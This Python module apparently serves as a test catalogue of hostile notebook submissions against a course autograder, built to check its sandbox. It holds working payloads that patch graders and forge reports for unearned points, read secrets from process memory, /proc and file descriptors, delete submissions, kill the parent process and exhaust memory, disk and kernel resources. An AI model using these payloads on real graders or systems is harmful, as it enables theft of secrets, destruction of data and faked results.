"""What submissions may try: each kind with the grader that it fools or hurts, and whether it holds at which isolation."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

SECRET = "course-secret-0f1e2d3c4b5a"


class World(NamedTuple):
    """What there is to attack: the exercise as it was given out, the folder of the course, addresses that listen."""

    reference: Mapping[str, Any]
    course: Path
    port: int
    name: str  # of an abstract socket
    right: Mapping[str, Any]  # of another student, as he may pass them on
    course_right: Mapping[str, Any]  # of the course's own data, which are in everybody's hands
    token: str
    others_token: str


Made = bytes | list[bytes]


@dataclass(frozen=True)
class Attack:
    """One kind of hostile submission.

    Parameters
    ----------
    kind : str
        What it tries, as the page for graders says it.
    make : callable
        ``make(world)``: the notebook, or several that are handed in one after the other.
    fools : str
        The naive grader against which it succeeds.
    effect : str
        How that is seen there: "points" that are not due, "evidence" that comes back in the answers, "damage" in the folder of the
        course, or it "stops" the grader, so that those who come after have no marks.
    weak : bool
        Whether it holds without bubblewrap, too (on Linux).
    honest : tuple of str
        The questions that are honestly right.
    evidence : str
        The words by which success is seen.
    exercise : str
        Which one it is handed in for.
    typed : callable
        ``typed(world)``: the right answers to other data that it holds as numbers; a few of them may be right here by themselves.
    inside : tuple of str
        The questions that are honestly right in WebAssembly only, since the attack does nothing there.
    """

    kind: str
    make: Callable[[World], Made]
    fools: str
    effect: str
    weak: bool
    honest: tuple[str, ...] = ()
    evidence: str = SECRET
    exercise: str = "paired_t_by_hand"
    typed: Callable[[World], Mapping[str, Any]] = lambda _: {}
    inside: tuple[str, ...] = ()


# -- making notebooks ----------------------------------------------------------------------------------------------------------
def filled(reference: Mapping[str, Any], cells: Mapping[str, str], token: str = "") -> dict[str, Any]:
    """The exercise with these sources in the cells of these grade_ids; `opening` is the set-up cell, `extra` comes behind it."""
    notebook = deepcopy(dict(reference))
    found = []
    for cell in notebook["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        source = "".join(cell["source"])
        opening = "task = exercise(" in source
        if opening and token:
            source = source.replace('")', f'", data="{token}")', 1)
        source = cells.get(name, cells.get("opening", source) if opening else source)
        found.append(cell | {"source": source})
        if opening and "extra" in cells:
            found.append({"cell_type": "code", "metadata": {}, "source": cells["extra"], "outputs": [], "execution_count": None})
    return notebook | {"cells": found}


def written(notebook: Any) -> bytes:
    """The bytes of a notebook."""
    return json.dumps(notebook).encode()


NAMES = dict(
    zip(
        ["q1", "q2", "q3", "q4", "q5", "q6", "q7", "q8", "q9", "q10"],
        ["d", "mean", "sd", "se", "t", "df", "critical_value", "p", "reject", "meaning"],
        strict=True,
    )
)


def typed(right: Mapping[str, Any]) -> dict[str, str]:
    """Answers as numbers that somebody typed."""
    return {f"answer_{key}": f"{NAMES[key]} = {value!r}" for key, value in right.items()}


def extra(source: str, **cells: str) -> Callable[[World], bytes]:
    """A notebook with one more cell, in whose source FOLDER, PORT and NAME stand for what they name."""

    def make(world: World) -> bytes:
        text = source.replace("FOLDER", repr(str(world.course))).replace("PORT", str(world.port)).replace("NAME", repr(world.name))
        return written(filled(world.reference, {"extra": text} | {f"answer_{key}": value for key, value in cells.items()}, world.token))

    return make


def tells(source: str) -> Callable[[World], bytes]:
    """A cell that makes `loot`, which is then handed in as an answer."""
    return extra(source, q2="mean = loot")


def other(change: Callable[[World], Any]) -> Callable[[World], bytes]:
    """A notebook that is changed as JSON, or whatever bytes a function makes."""

    def make(world: World) -> bytes:
        made = change(world)
        return made if isinstance(made, bytes) else written(made)

    return make


ALL = "\n".join(f"{name} = thing" for name in NAMES.values())  # the same for every answer
EACH = dict.fromkeys(NAMES, "")  # so that the stubs do not take it away again


def everywhere(source: str) -> Callable[[World], bytes]:
    """A cell that gives every answer by itself."""
    return extra(source, **EACH)


EQUAL_TO_EVERYTHING = (
    """
class Agreeable:
    def same(self, *others): return self
    __sub__ = __rsub__ = __abs__ = __array_ufunc__ = same
    __array_priority__ = 1000
    def __eq__(self, other): return True
    def __gt__(self, other): return False
    def __bool__(self): return True
    __hash__ = None
thing = Agreeable()
"""
    + ALL
)
FRAMES = """
import sys
class Climber:
    def __init__(self, key): self.key = key
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if type(value).__name__ == "ndarray" and frame.f_code.co_name in ("read", "_numbers", "_truth", "_words"):
                    if "wanted" in frame.f_locals:
                        return np.asarray(frame.f_locals["wanted"])
                    return np.asarray(value)
            if "right" in frame.f_locals:
                return np.asarray(frame.f_locals["right"])
            frame = frame.f_back
        return np.asarray(0.0)
    def __len__(self): return len(self.__array__())
d, mean, sd, se, t, df, critical_value, p = (Climber(k) for k in range(8))
"""
SOLUTION = """
import re
import fstats
text = task.solution()
found = dict(re.findall(r"^(q\\d+) \\(.*?\\)\\s+(?:\\w+ = )?(.*)$", text, re.M))
d = [float(x) for x in found["q1"].strip("[]").split(",")]
mean, sd, se, t, df, critical_value, p = (float(found[f"q{k}"]) for k in range(2, 9))
reject, meaning = found["q9"], found["q10"][0]
"""
MEMORY = """
import os
def look(pid):
    found = ""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights, *_, last = line.split()
            first, end = (int(x, 16) for x in place.split("-"))
            if rights.startswith("rw") and end - first < 1 << 28 and not found and not last.startswith("/"):
                memory.seek(first)
                try: part = memory.read(end - first)
                except OSError: continue
                at = part.find(b"course-" + b"secret-")
                if at >= 0: found = part[at : at + 26].decode()
    return found
loot = ""
for pid in (os.getpid(), os.getppid()):
    try: loot = loot or look(pid)
    except OSError as error: loot = loot or ""
"""
OTHER_PROCESSES = """
import glob
loot = ""
for place in glob.glob("/proc/[0-9]*/cmdline"):
    try: text = open(place, "rb").read()
    except OSError: continue
    if b"course-secret" in text: loot = text[text.find(b"course-secret"):][:26].decode()
"""
DESCRIPTORS = """
import os
loot = ""
for number in range(3, 60):
    try: text = os.pread(number, 4096, 0)
    except OSError: continue
    if b"course-secret" in text: loot = text[text.find(b"course-secret"):][:26].decode()
"""
FORGED = """
import os
lines = b'{"points": 10, "feedback": ""}\\n{"key": "q1", "verdict": "right", "points": 10}\\n{"end": true, "points": 10}\\n'
for number in range(60):
    try: os.write(number, lines)
    except OSError: pass
"""
FLOOD = """
import os
part = b'{"points": 10}' * 4000 + b"\\n"
for number in range(3, 60):
    try:
        for _ in range(120): os.write(number, part)
    except OSError: pass
os._exit(0)
"""
FORKS = """
import os, time
made = []
try:
    for _ in range(40):
        pid = os.fork()
        if not pid:
            time.sleep(3)
            os._exit(0)
        made.append(pid)
except OSError: pass
loot = "forked 40" if len(made) == 40 else "no more"
"""
LINGERS = """
import ctypes, os, time
if not os.fork():
    os.setsid()
    if not os.fork():
        ctypes.CDLL(None).prctl(15, b"lingering", 0, 0, 0)
        time.sleep(1)
        open(FOLDER + "/late.txt", "w").write("later")
        time.sleep(1)
        os._exit(0)
    os._exit(0)
os.wait()
"""
SHARED_MEMORY = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
shared = libc.shmget(0, 600 << 20, 0o1600)
if shared >= 0: libc.shmctl(shared, 0, None)
try:
    os.close(os.memfd_create("mine"))
    file = True
except OSError: file = False
loot = "memory that nobody counts" if shared >= 0 or file else "refused"
"""
ONE_PAGE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
size, held = 4 << 20, 0
try: flags, file = FLAGS_AND_FILE
except OSError: flags, file = 0, -1
for _ in range(6):
    place = libc.mmap(None, size, 3, flags, file, 0)
    if place in (None, 2**64 - 1): break
    ctypes.memset(place, 1, size)
    libc.munmap(place + 4096, size - 4096)  # what is gone from here remains in memory as long as the first page does
    held += 4
loot = "memory that nobody has" if held else "refused"
"""
SCARCE = """
import ctypes, fcntl, os
libc = ctypes.CDLL(None, use_errno=True)
def pipe_of_a_mebibyte():
    try: return fcntl.fcntl(os.pipe()[1], 1031, 1 << 20)
    except OSError: return -1
def many_timers():
    return -1 if any(libc.timer_create(1, None, ctypes.byref(ctypes.c_int())) for _ in range(2000)) else 0
tried = {
    "watchers of files": lambda: libc.inotify_init1(0),
    "queues": lambda: libc.mq_open(b"/mine", os.O_CREAT | os.O_RDWR, 0o600, None),
    "input and output for later": lambda: libc.syscall(206, 1000, ctypes.byref(ctypes.c_ulong(0))),
    "rules": lambda: libc.syscall(444, bytes(16), 16, 0),
    "pipes": pipe_of_a_mebibyte,
    "timers": many_timers,
}
done = [name for name, take in tried.items() if take() >= 0]
loot = "taken from everybody" if done else "refused"
"""
MANY_PROCESSES = """
import os, signal, time
done, tell = os.pipe()
made = []
try:
    for _ in range(4):
        pid = os.fork()
        if not pid:
            mine = bytearray(120 << 20)
            mine[::4096] = b"x" * len(mine[::4096])
            os.write(tell, b"x")
            time.sleep(3)
            os._exit(0)
        made.append(pid)
except OSError: pass
count = sum(len(os.read(done, 1)) for _ in made)
time.sleep(0.4)
for pid in made: os.kill(pid, signal.SIGKILL)
loot = "480 MiB in four processes" if count == 4 else ""
"""
SOCKET_BUFFERS = """
import socket
kept, size = [], 0
try:
    for _ in range(10):
        pair = socket.socketpair()
        kept += pair
        for one in pair:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
            one.setblocking(False)
            try:
                while True: size += one.send(bytes(1 << 16))
            except BlockingIOError: pass
except OSError: size = 0
loot = "megabytes in sockets" if size > 3 << 20 else "refused"
"""
SIGNAL_BY_THE_KERNEL = """
import fcntl, os, signal
if os.getppid() > 1:
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, 8, os.getppid())
        fcntl.fcntl(read, 10, signal.SIGKILL)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
    except OSError: pass
"""
FULL_DISK = """
try:
    for k in range(8):
        with open(f"big{k}", "wb") as file: file.write(bytes(6 << 20))
    loot = "wrote 48 MiB"
except OSError: loot = "full"
"""
REACHES = """
import socket
loot = "nobody"
for family, address in ADDRESSES:
    try:
        with socket.socket(family) as one:
            one.settimeout(1)
            one.connect(address)
            loot = "somebody there"
    except OSError: pass
"""
KERNEL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
calls = {"keyctl": (250, 0, -4, 1), "socket of a machine": (41, 40, 1, 0), "io_uring": (425, 1, bytes(120), 0), "ptrace": (101, 0, 0, 0)}
done = [name for name, (number, *rest) in calls.items() if libc.syscall(number, *rest) != -1]
loot = "let through" if done else "refused"
"""
LEAVES = """
import builtins, os, fstats
import numpy
for place in (builtins, fstats, numpy): place.left_behind = "left for the next"
for folder in (FOLDER, "/tmp", "/dev/shm", "/var/tmp", "/house", "/dev"):
    try: open(os.path.join(folder, "left_behind"), "w").write("left for the next")
    except OSError: pass
"""
FINDS = """
import builtins, os, fstats
import numpy
loot = ""
for place in (builtins, fstats, numpy): loot = loot or getattr(place, "left_behind", "")
for folder in (FOLDER, "/tmp", "/dev/shm", "/var/tmp", "/house", "/dev"):
    try: loot = loot or open(os.path.join(folder, "left_behind")).read()
    except OSError: pass
"""
ASKS_THE_JUDGE = """
import sys
def honest(key):
    def answer(*values):
        sys.setprofile(None)
        frame = sys._getframe(1)
        while frame:
            task = frame.f_locals.get("self")
            if type(task).__name__ == "Task":
                question = task.exercise.question(key)
                data = dict(zip(question.takes, values))
                return getattr(task.exercise.tested(question).from_steps(**data), question.step)
            frame = frame.f_back
        return 0.5
    return answer
ranks, paired_t, sign_test, signed_rank = map(honest, ["q1", "q2", "q3", "q4"])
"""


def without_token(world: World) -> dict[str, Any]:
    """Answers to the data of the course, which everybody has."""
    return filled(world.reference, typed(world.course_right))


def foreign(world: World) -> dict[str, Any]:
    """Another student's notebook, byte for byte."""
    return filled(world.reference, typed(world.right), world.others_token)


def with_points(world: World) -> dict[str, Any]:
    """Each cell is worth a hundred points, says the notebook."""
    notebook = filled(world.reference, {"answer_q6": "df = len(a) - 1"}, world.token)
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"] = {"nbgrader": cell["metadata"]["nbgrader"] | {"points": 100}}
    return notebook


def many_times(world: World) -> dict[str, Any]:
    """One right answer, checked twenty times."""
    notebook = filled(world.reference, {"answer_q6": "df = len(a) - 1"}, world.token)
    again = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == "q6")
    return notebook | {"cells": [*notebook["cells"], *[again] * 20]}


def relabelled(world: World) -> dict[str, Any]:
    """The checks of the questions that were not solved look at the one that was."""
    notebook = filled(world.reference, {"answer_q6": "df = len(a) - 1"}, world.token)
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("locked"):
            cell["source"] = 'check("q6", df)'
    return notebook


def with_kernel(world: World) -> dict[str, Any]:
    """A kernel that is not there."""
    notebook = filled(world.reference, {"answer_q6": "df = len(a) - 1"}, world.token)
    return notebook | {"metadata": {"kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash"}}}


def two(first: str, second: str) -> Callable[[World], list[bytes]]:
    """Two submissions, the second of which looks for what the first left."""
    return lambda world: [extra(first)(world), tells(second)(world)]


def functions(source: str) -> Callable[[World], bytes]:
    """A cell that defines the four functions of the exercise about functions."""
    empty = dict.fromkeys(("answer_q1", "answer_q2", "answer_q3", "answer_q4"), "")
    return lambda world: written(filled(world.reference, {"extra": source} | empty, world.token))


def _patched(target: str) -> str:
    return f"import fstats.teaching.grading.task as grading\nfrom fstats.teaching.grading.verdicts.feedback import Feedback\n{target}"


ATTACKS: Sequence[Attack] = (
    # points that are not due
    Attack(
        "takes nbgrader's mark out of the environment",
        extra('import os\nos.environ.pop("NBGRADER_EXECUTION", "")'),
        "checks",
        "points",
        True,
    ),
    Attack("replaces `check`", extra("check = lambda *anything: None"), "checks", "points", True),
    Attack(
        "hands in another student's notebook, byte for byte, with numbers in it",
        other(foreign),
        "checks",
        "points",
        True,
        typed=lambda world: world.right,
    ),
    Attack(
        "deletes the token from the opening cell", other(without_token), "checks", "points", True, typed=lambda world: world.course_right
    ),
    Attack("reads `task.solution()`", extra(SOLUTION, **EACH), "checks", "points", True),
    Attack("answers with objects whose `__array__` climbs through the caller's frames", extra(FRAMES, **EACH), "checks", "points", True),
    Attack("answers with an object that is equal to everything", everywhere(EQUAL_TO_EVERYTHING), "asserts", "points", True),
    Attack("answers with nan", everywhere(f"thing = float('nan')\n{ALL}"), "asserts", "points", True),
    Attack("answers with lists in which nothing is", everywhere(f"thing = np.empty((0, 1))\n{ALL}"), "asserts", "points", True),
    Attack(
        "patches numpy",
        everywhere(
            "np.any = np.all = lambda *x, **y: False\nnp.allclose = lambda *x: True\n"
            "d, mean, sd, se, t, df, critical_value, p, reject = (7919.25 * 3.7**k for k in range(9))"
        ),
        "asserts",
        "points",
        True,
    ),
    Attack(
        "patches fstats",
        extra(_patched("grading.Task.reply_to = lambda self, key, value: Feedback(key, 'right')")),
        "checks",
        "points",
        True,
    ),
    Attack(
        "patches fstats by importing a file that it has written",
        extra(
            "from pathlib import Path\nimport sys\n"
            "Path('harmless.py').write_text('import fstats.teaching.grading.task as "
            "t\\nfrom fstats.teaching.grading.verdicts.feedback import Feedback\\n"
            "t.Task.reply_to = lambda self, key, value: Feedback(key, \"right\")')\nsys.path.insert(0, '')\nimport harmless"
        ),
        "checks",
        "points",
        True,
    ),
    Attack(
        "patches json",
        extra(
            "import json\n"
            "json.dumps = lambda x, write=json.dumps, **y: write({**x, 'points': 10} if isinstance(x, dict) and 'points' in x else x, **y)"
        ),
        "checks",
        "points",
        True,
    ),
    Attack("forges lines of the report", extra(FORGED), "checks", "points", True),
    Attack("edits the metadata: a hundred points for each cell", other(with_points), "asserts", "points", True, ("q6",)),
    Attack("doubles the cell that checks its one right answer", other(many_times), "checks", "points", True, ("q6",)),
    Attack("lets all checks look at its one right answer", other(relabelled), "checks", "points", True, ("q6",)),
    Attack(
        "lets functions ask the judge who calls them", functions(ASKS_THE_JUDGE), "checks", "points", True, exercise="write_your_own_test"
    ),
    # what it should not see
    Attack("reads the key from the disk", tells('loot = open(FOLDER + "/key.json").read()[:26]'), "checks", "evidence", True),
    Attack("reads the secret of the course", tells('loot = open(FOLDER + "/secret.txt").read()'), "checks", "evidence", True),
    Attack("reads other submissions", tells('loot = open(FOLDER + "/submissions/s2/answers.txt").read()'), "checks", "evidence", True),
    Attack(
        "reads by a symbolic link",
        tells('import os\nos.symlink(FOLDER + "/secret.txt", "mine")\nloot = open("mine").read()'),
        "checks",
        "evidence",
        True,
    ),
    Attack(
        "reads by a hard link",
        tells('import os\nos.link("log.txt" if os.path.exists("log.txt") else FOLDER + "/log.txt", "mine")\nloot = "linked it"'),
        "checks",
        "evidence",
        True,
        evidence="linked it",
    ),
    Attack("reads the environment", tells('import os\nloot = os.environ.get("COURSE_SECRET", "")'), "checks", "evidence", True),
    Attack("reads the command lines of other processes", tells(OTHER_PROCESSES), "checks", "evidence", True),
    Attack("searches the memory of its own and of its parent's process", tells(MEMORY), "checks", "evidence", True),
    Attack("reads open files by their descriptors", tells(DESCRIPTORS), "checks", "evidence", True),
    Attack("looks for what an earlier submission left", two(LEAVES, FINDS), "checks", "evidence", True, evidence="left for the next"),
    Attack(
        "calls home over the network",
        tells(REACHES.replace("ADDRESSES", '[(socket.AF_INET, ("127.0.0.1", PORT))]')),
        "checks",
        "evidence",
        True,
        evidence="somebody there",
    ),
    Attack(
        "speaks to a local socket without a file",
        tells(REACHES.replace("ADDRESSES", r'[(socket.AF_UNIX, "\0" + NAME)]')),
        "checks",
        "evidence",
        True,
        evidence="somebody there",
    ),
    Attack(
        "uses doors of the kernel: keys, virtual sockets, io_uring, ptrace",
        tells(KERNEL),
        "checks",
        "evidence",
        True,
        evidence="let through",
    ),
    # what it should not change
    Attack("writes outside its folder", extra('open(FOLDER + "/grades.csv", "a").write("s1,10")'), "checks", "damage", True),
    Attack(
        "writes into open files by their descriptors",
        extra('import os\nfor n in range(3, 60):\n    try: os.pwrite(n, b"s1,10", 0)\n    except OSError: pass'),
        "checks",
        "damage",
        True,
    ),
    Attack("deletes files", extra('import shutil\nshutil.rmtree(FOLDER + "/submissions")'), "checks", "damage", True),
    Attack(
        "leaves a pickle for the grader",
        extra('class Bomb:\n    def __reduce__(self): return open, (FOLDER + "/pwned.txt", "w")', q2="mean = Bomb()"),
        "pickles",
        "damage",
        True,
    ),
    Attack("starts a process that outlives it", extra(LINGERS), "checks", "damage", True),
    # what it should not use up
    Attack(
        "fills the memory",
        tells('loot = "took 700 MiB" if bytearray(700 << 20) else ""'),
        "checks",
        "evidence",
        True,
        evidence="took 700 MiB",
    ),
    Attack(
        "takes memory that belongs to no process: System V's, files without a name",
        tells(SHARED_MEMORY),
        "checks",
        "evidence",
        True,
        evidence="memory that nobody counts",
    ),
    Attack(
        "shares memory with nobody, and keeps one page of it",
        tells(ONE_PAGE.replace("FLAGS_AND_FILE", "0x21, -1")),
        "checks",
        "evidence",
        True,
        evidence="memory that nobody has",
    ),
    Attack(
        "does the same with a device that gives memory",
        tells(ONE_PAGE.replace("FLAGS_AND_FILE", '1, os.open("/dev/zero", os.O_RDWR)')),
        "checks",
        "evidence",
        True,
        evidence="memory that nobody has",
    ),
    Attack(
        "takes what the kernel has few of: watchers of files, queues, timers",
        tells(SCARCE),
        "checks",
        "evidence",
        True,
        evidence="taken from everybody",
    ),
    Attack(
        "fills the memory by several processes together",
        tells(MANY_PROCESSES),
        "checks",
        "evidence",
        True,
        evidence="480 MiB in four processes",
    ),
    Attack("keeps memory in the buffers of sockets", tells(SOCKET_BUFFERS), "checks", "evidence", True, evidence="megabytes in sockets"),
    Attack("fills the disk", tells(FULL_DISK), "checks", "evidence", False, evidence="wrote 48 MiB"),
    Attack("forks and forks", tells(FORKS), "checks", "evidence", True, evidence="forked 40"),
    # what should not stop the marking of the others
    Attack("computes for ever", extra("while True: pass", q1="d = a - b"), "checks", "stops", True, ("q1",)),
    Attack("sleeps for ever", extra("import time\ntime.sleep(1000)"), "checks", "stops", True),
    Attack("waits for `input()`", extra("name = input()", q6="df = len(a) - 1"), "checks", "stops", True, ("q6",)),
    Attack("calls `os._exit`", extra("pass", q6="df = len(a) - 1", q7="import os\nos._exit(0)"), "checks", "stops", True, ("q6",)),
    Attack("calls `sys.exit`", extra("import sys\nsys.exit()", q6="df = len(a) - 1"), "checks", "stops", True, ("q6",)),
    Attack(
        "kills its parent",
        extra("import os, signal\nif os.getppid() > 1: os.kill(os.getppid(), signal.SIGKILL)", q6="df = len(a) - 1"),
        "checks",
        "stops",
        True,
        ("q6",),
    ),
    Attack(
        "lets the kernel send its parent the signal, as the owner of a pipe",
        extra(SIGNAL_BY_THE_KERNEL, q6="df = len(a) - 1"),
        "checks",
        "stops",
        True,
        ("q6",),
    ),
    Attack(
        "kills everybody that it can",
        extra("import os, signal\nos.kill(-1 if os.getpid() == 1 else os.getppid(), signal.SIGKILL)", q6="df = len(a) - 1"),
        "checks",
        "stops",
        True,
        ("q6",),
    ),
    Attack("closes all files", extra("import os\nos.closerange(0, 100)"), "checks", "stops", True),
    Attack(
        "leaves a thread that never ends",
        extra("import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()", q6="df = len(a) - 1"),
        "checks",
        "stops",
        True,
        ("q6",),
    ),
    Attack("crashes the interpreter", extra("import ctypes\nctypes.string_at(0)", q6="df = len(a) - 1"), "checks", "stops", True, ("q6",)),
    Attack(
        "raises an error that cannot be shown",
        extra("class Odd(Exception):\n    def __str__(self): raise SystemExit\nraise Odd", q6="df = len(a) - 1"),
        "checks",
        "stops",
        True,
        ("q6",),
    ),
    Attack("floods the report", extra(FLOOD), "checks", "stops", True),
    Attack("is no notebook", other(lambda _: b"Dear professor, my notebook does not open."), "checks", "stops", True),
    Attack(
        "is not UTF-8",
        other(lambda world: written(filled(world.reference, {"answer_q2": "mean = 'm\xfcde'"})).replace(b"\\u00fc", b"\xfc")),
        "checks",
        "stops",
        True,
    ),
    Attack("wants a kernel that is not there", other(with_kernel), "checks", "stops", True, ("q6",)),
    Attack("nests brackets without end", other(lambda _: b'{"cells": ' + b"[" * 200_000), "checks", "stops", True),
    Attack("is a notebook of cells that are none", other(lambda _: b'{"cells": [1, null, "x"], "metadata": {}}'), "checks", "stops", True),
)

# Whatever fools no naive grader, or is no matter of isolation, is tried with the rest of the marker: too large files, texts that
# look like HTML, functions that call what they should be.
